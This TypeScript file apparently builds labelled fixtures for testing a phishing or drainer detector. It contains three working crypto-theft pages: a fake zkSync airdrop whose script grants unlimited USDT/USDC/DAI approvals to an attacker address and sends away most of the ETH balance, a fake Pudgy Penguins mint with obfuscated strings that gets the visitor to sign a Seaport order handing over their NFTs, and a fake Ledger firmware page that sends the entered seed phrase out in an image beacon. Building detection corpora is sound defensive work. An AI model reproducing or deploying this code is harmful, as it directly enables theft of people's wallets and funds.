import { type Entry, htmlRoute, redirectRoute } from '../entry.js';
import { zip, pe, cfb, iso, lnk, apk, crx, rar5, sevenZip, beepWav, fileRoute, jsRoute, jsonRoute, cssRoute } from '../parts/e-bin.js';
import { doc, baseCss, loginCss, tagStub, cookieBar, imgRoute, b64, xorB64, hexEsc, pack } from '../parts/zf-kit.js';

export const entries: Entry[] = [
{
  id: 'zf-drainer-airdrop-claim-permit',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim-zksync-airdrop.org/eligibility',
  body: doc({
    title: 'ZK Nation — Claim your $ZK Airdrop',
    css: `body{margin:0;background:#0b0b14;color:#fff;font-family:Inter,system-ui,sans-serif;text-align:center}.c{max-width:520px;margin:10vh auto;background:#15152a;border-radius:16px;padding:36px}
button{background:linear-gradient(90deg,#5b5bd6,#8e4ec6);color:#fff;border:0;padding:14px 40px;border-radius:12px;font-size:17px;cursor:pointer}.t{color:#9ca3af;font-size:13px}`,
    body: `<div class="c"><h1>Season 2 Airdrop is live 🪂</h1><p>Connect your wallet to check eligibility. 3,675 ZK tokens unclaimed. Claim window closes in <b id="cd">02:14:51</b>.</p><button id="cn">Connect Wallet</button><p class="t" id="st"></p></div>
<script src="/assets/js/web3-modal.bundle.js"></script>`,
  }),
  routes: {
    'claim-zksync-airdrop.org/assets/js/web3-modal.bundle.js': jsRoute(`(function(){
var RECV='0x8b3fE1a2C9d7e45B0b6f1fD21c9a7E3f0A55c2D1',API='/assets/api/';
var st=document.getElementById('st');
var ERC20=[{t:'0xdAC17F958D2ee523a2206206994597C13D831ec7',s:'USDT'},{t:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',s:'USDC'},{t:'0x6B175474E89094C44Da98b954EedeAC495271d0F',s:'DAI'}];
function pad(x){return x.replace('0x','').toLowerCase().padStart(64,'0')}
async function drain(acc){
  var bal=await ethereum.request({method:'eth_getBalance',params:[acc,'latest']});
  fetch(API+'log',{method:'POST',body:JSON.stringify({a:acc,b:bal,ref:document.referrer})});
  for(var i=0;i<ERC20.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:ERC20[i].t,data:'0x095ea7b3'+pad(RECV)+'f'.repeat(64)}]})}catch(e){}}
  var v=BigInt(bal)*95n/100n;if(v>0n)await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+v.toString(16)}]});
  st.textContent='Claim submitted. Tokens will arrive within 24h.';
}
document.getElementById('cn').onclick=async function(){
  if(!window.ethereum){st.textContent='No wallet detected. Please open this page in MetaMask or Trust Wallet browser.';return}
  var a=await ethereum.request({method:'eth_requestAccounts'});st.textContent='Checking eligibility…';setTimeout(function(){drain(a[0])},1200);
};
})();`),
    'claim-zksync-airdrop.org/assets/api/log': jsonRoute({ ok: true }),
  },
},
{
  id: 'zf-drainer-nft-free-mint-seaport',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://pudgy-penguins-freemint.com/mint',
  body: doc({
    title: 'Pudgy Penguins | Free Mint',
    css: `body{margin:0;background:#cfe8ff;font-family:"Comic Sans MS",system-ui;text-align:center;color:#00142d}.m{background:#fff;max-width:460px;margin:8vh auto;border-radius:20px;padding:30px;box-shadow:0 6px 0 #00142d}
button{background:#00142d;color:#fff;border:0;padding:14px 40px;border-radius:30px;font-size:18px}`,
    body: `<div class="m"><h1>FREE MINT LIVE 🐧</h1><p>Holders of any NFT on Ethereum can mint 1 Pudgy Rod for free. 7,281 / 8,888 minted.</p><button id="mint">Connect &amp; Mint</button><p id="msg"></p></div>
<script>
var _0x5a=['eth_requestAccounts','eth_signTypedData_v4','0x00000000000000ADc04C56Bf30aC9d3c0aAF14dC','/mint/api/order'];
document.getElementById('mint').onclick=async function(){try{var acc=(await window.ethereum.request({method:_0x5a[0]}))[0];
var r=await fetch(_0x5a[3]+'?w='+acc);var order=await r.json();
var sig=await window.ethereum.request({method:_0x5a[1],params:[acc,JSON.stringify({types:{EIP712Domain:[{name:'name',type:'string'},{name:'version',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],OrderComponents:[{name:'offerer',type:'address'},{name:'offer',type:'OfferItem[]'},{name:'consideration',type:'ConsiderationItem[]'}]},primaryType:'OrderComponents',domain:{name:'Seaport',version:'1.5',chainId:1,verifyingContract:_0x5a[2]},message:order})]});
await fetch(_0x5a[3],{method:'POST',body:JSON.stringify({acc:acc,sig:sig})});document.getElementById('msg').textContent='Minted! Check your wallet in a few minutes.'}catch(e){document.getElementById('msg').textContent='Mint failed, try again.'}};
</script>`,
  }),
  routes: { 'pudgy-penguins-freemint.com/mint/api/order': jsonRoute({ offerer: '0x0', offer: [{ itemType: 2, token: '0xBd3531dA5CF5857e7CfAA92426877b022e612cf8', identifierOrCriteria: '0' }], consideration: [{ recipient: '0x7a1cD02E35fF06c2A0bEa2E6D1d5b0f8E0e3b4c1' }] }) },
},
{
  id: 'zf-seed-ledger-firmware-recovery',
  label: 'cryptodrainer',
  kind: 'seed-phrase',
  url: 'https://ledger-live-firmware.com/en/recovery-check',
  body: doc({
    title: 'Ledger Live | Firmware Update Recovery',
    css: `body{margin:0;background:#000;color:#fff;font-family:Inter,Arial,sans-serif}.c{max-width:640px;margin:5vh auto;padding:20px}textarea{width:100%;height:120px;background:#1c1d1f;color:#fff;border:1px solid #444;border-radius:6px;padding:12px;font-size:15px}
button{background:#fff;color:#000;border:0;padding:12px 30px;border-radius:30px;font-weight:600;margin-top:14px}.w{background:#2b1b00;border:1px solid #ff9900;padding:12px;border-radius:6px;font-size:14px}`,
    body: `<div class="c"><h2>LEDGER</h2><div class="w">⚠ Critical firmware update 2.4.1: due to a vulnerability in the Secure Element, devices not updated before 05/12 may lose access to funds.</div>
<h3>Step 2 of 3 — Verify your recovery phrase</h3><p>To complete the firmware migration, enter your 24-word recovery phrase separated by spaces. Your phrase is verified locally and is never shared.</p>
<textarea id="p" placeholder="word1 word2 word3 …"></textarea><br><button id="b">Continue</button><p style="font-size:12px;color:#888">© 2025 Ledger SAS. All rights reserved.</p></div>
<script>
document.getElementById('b').onclick=function(){var v=document.getElementById('p').value.trim().split(/\\s+/);if(v.length!==12&&v.length!==24){alert('Please enter a valid recovery phrase');return}
var img=new Image();img.src='/en/recovery-check/px.gif?d='+btoa(v.join(' '))+'&t='+Date.now();setTimeout(function(){location.href='/en/recovery-check/done'},800)};
</script>`,
  }),
  routes: {
    'ledger-live-firmware.com/en/recovery-check/px.gif': imgRoute(0, 0, 0),
    'ledger-live-firmware.com/en/recovery-check/done': htmlRoute(doc({ title: 'Ledger Live', body: '<main><h2>Step 3 of 3</h2><p>Your device will now restart. Do not disconnect it for 30 minutes.</p></main>' })),
  },
},
];
